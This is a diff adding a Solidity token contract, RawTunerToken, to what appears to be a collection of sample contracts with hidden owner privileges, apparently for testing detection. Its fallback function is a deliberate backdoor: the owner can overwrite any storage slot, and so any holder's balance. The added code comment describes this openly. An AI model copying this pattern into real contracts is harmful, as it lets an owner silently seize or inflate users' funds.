@@ -336,3 +336,18 @@ contract GuardianPermitToken is PlainLedger7 {
         _approve(holder, spender, value);
     }
 }
+
+/// No named privileged function: the fallback lets the owner write any storage word (slot, value) in one call of at
+/// least 68 bytes, so a holder's balance is whatever the owner writes.
+contract RawTunerToken is BaseToken {
+    constructor(string memory name_, string memory symbol_, uint256 supply) {
+        _init(name_, symbol_, supply, msg.sender);
+    }
+
+    fallback() external {
+        require(msg.sender == owner && msg.data.length >= 68, "tuner");
+        assembly {
+            sstore(calldataload(4), calldataload(36))
+        }
+    }
+}
